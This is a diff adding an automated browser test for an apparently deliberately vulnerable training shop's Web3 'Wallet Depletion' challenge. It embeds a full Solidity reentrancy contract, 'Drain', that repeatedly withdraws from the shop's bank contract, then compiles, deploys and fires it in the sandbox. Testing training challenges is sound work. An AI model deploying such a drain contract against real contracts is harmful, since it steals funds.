@@ -1,0 +1,90 @@
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { launchBrowser, openShop } from '../support/browser.js'
+import { isSolved, startShop, waitForSolved, type RunningShop } from '../support/shop.js'
+
+/** The attacker of Wallet Depletion: deposits, then withdraws again from inside the bank's payment. */
+const DRAIN_SOURCE = `// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+interface IBank { function ethdeposit(address account) external payable; function withdraw(uint256 amount) external; }
+contract Drain {
+    IBank private immutable bank;
+    uint256 private rounds;
+    constructor(IBank target) { bank = target; }
+    function attack() external payable {
+        bank.ethdeposit{value: msg.value}(address(this));
+        bank.withdraw(msg.value);
+    }
+    receive() external payable {
+        if (rounds < 3) { rounds++; bank.withdraw(msg.value); }
+    }
+}`
+
+describe('Web3 sandbox: compile, deploy and call with the training wallet', () => {
+  let shop: RunningShop
+  let browser: Browser
+
+  beforeAll(async () => {
+    shop = await startShop()
+    browser = await launchBrowser()
+  })
+  afterAll(async () => {
+    await browser?.close()
+    await shop?.stop()
+  })
+
+  it('deploys an attacker contract that re-enters the ETH bank, which solves Wallet Depletion', async () => {
+    const { context, page } = await openShop(browser, shop, { path: '/wallet-web3' })
+
+    // The bank page registers the wallet and serves honest deposits and withdrawals.
+    await page.locator('#walletWeb3Title').waitFor()
+    await page.locator('#faucetButton').click()
+    await page.getByTestId('eth-balance').filter({ hasText: /^1$/ }).waitFor()
+    const bank = (await page.locator('#bankAddress').textContent()) ?? ''
+    expect(bank).toMatch(/^0x[0-9a-fA-F]{40}$/)
+    await page.locator('#depositAmountInput').fill('0.2')
+    await page.locator('#depositButton').click()
+    await page
+      .getByTestId('bank-balance')
+      .filter({ hasText: /^0\.2$/ })
+      .waitFor()
+    await page.locator('#withdrawAmountInput').fill('0.5')
+    expect(await page.locator('#withdrawEthButton').isDisabled()).toBe(true)
+    await page.locator('#withdrawAmountInput').fill('0.1')
+    await page.locator('#withdrawEthButton').click()
+    await page
+      .getByTestId('bank-balance')
+      .filter({ hasText: /^0\.1$/ })
+      .waitFor()
+    expect(await isSolved(shop, 'web3WalletChallenge')).toBe(false)
+
+    // The sandbox compiles the attacker in the browser, with the shop's own copy of solc.
+    await page.goto(`${shop.baseUrl}/#/web3-sandbox`)
+    const compilerRequests: string[] = []
+    page.on('request', (request) => {
+      if (request.url().includes('soljson')) compilerRequests.push(request.url())
+    })
+    await page.locator('#sandboxEditor').fill('contract Broken { function f() }')
+    await page.locator('#compileButton').click()
+    await page.getByTestId('compile-summary').filter({ hasText: 'failed' }).waitFor({ timeout: 60_000 })
+    await page.getByTestId('compiler-message').filter({ hasText: 'ParserError' }).first().waitFor()
+    await page.locator('#sandboxEditor').fill(DRAIN_SOURCE)
+    await page.locator('#compileButton').click()
+    await page
+      .getByTestId('compile-summary')
+      .filter({ hasText: 'Contracts: Drain' })
+      .waitFor({ timeout: 60_000 })
+    expect(compilerRequests).toEqual([`${shop.baseUrl}/assets/solc/soljson.js`])
+
+    // Deployed through the training wallet with the bank's address, then attack() with 0.1 ETH.
+    await page.locator('#constructorArgsInput').fill(bank)
+    await page.locator('#deployButton').click()
+    await page.getByTestId('deploy-result').filter({ hasText: 'Drain deployed at 0x' }).waitFor()
+    const attack = page.getByTestId('deployed-contract').getByTestId('function-attack')
+    await attack.getByLabel('Value (ETH)').fill('0.1')
+    await attack.getByRole('button', { name: 'Send' }).click()
+    await attack.getByTestId('function-result').filter({ hasText: 'Transaction confirmed' }).waitFor()
+    await expect(waitForSolved(shop, 'web3WalletChallenge')).resolves.toBe(true)
+    await context.close()
+  })
+})
